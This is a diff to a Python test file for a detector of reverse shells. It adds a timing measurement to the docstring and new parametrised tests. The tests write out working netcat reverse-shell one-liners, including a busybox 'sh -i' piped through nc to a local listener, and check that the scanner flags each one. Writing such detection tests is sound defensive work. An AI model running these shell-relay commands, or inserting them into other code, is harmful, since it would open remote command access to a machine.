@@ -28,6 +28,13 @@ a shell fed by `tail -f` of a regular file its relay appends to, the `while read
 done` loop a job queue's shape hides, a padded library listed by a RECORD of the user's own
 (a wheel the user installs is owned by design), and a library that maps part of its own file
 no loadable segment covers.
+
+Measured (not kept as a test: 6 GB of files): a Python process mapping 20 copies of a 300 MiB
+library no package owns (a conda environment's lib, which no RECORD lists) costs 4.9 GB read
+past the bound once (236 MiB each, none cut), 13.4 s (12.2 s of CPU) on this 2-core machine
+with a warm page cache; a second process from the cache, nothing. A ProcessSampler ticking
+every 0.1 s over that tree meanwhile took 17 ms at most a tick (the scans run in the
+background).
 """
 
 from __future__ import annotations
@@ -106,6 +113,21 @@ def test_bash_in_a_loop_is_recognised_with_its_own_close_on_exec_copy_of_stderr(
     near-miss of the job queue whose cell's bash saved its script's stdin)."""
     found, relays = _reverse_shell(
         f"cat {{f}} | {shell} 2>&1 | nc 127.0.0.1 {{port}} > {{f}}", listener, tmp_path)
+    assert relays[shell].startswith("nc")
+    assert ("remote-reverse-shell", "remote-access", shell) in found
+
+
+@pytest.mark.skipif(shutil.which("busybox") is None, reason="needs busybox")
+@pytest.mark.parametrize("shell, line", [
+    pytest.param("busybox sh -i", "cat {f} | busybox sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
+                 id="busybox-applet"),
+    pytest.param("sh -i", "cat {f} | sh -i 2>&1 >/dev/null | nc 127.0.0.1 {port} > {f}",
+                 id="stderr-only"),
+])
+def test_tried_and_already_recognised(shell, line, listener, tmp_path):  # noqa: F811
+    """busybox's shell applet, and a loop through the shell's stderr alone (stdout to
+    /dev/null)."""
+    found, relays = _reverse_shell(line, listener, tmp_path)
     assert relays[shell].startswith("nc")
     assert ("remote-reverse-shell", "remote-access", shell) in found
 
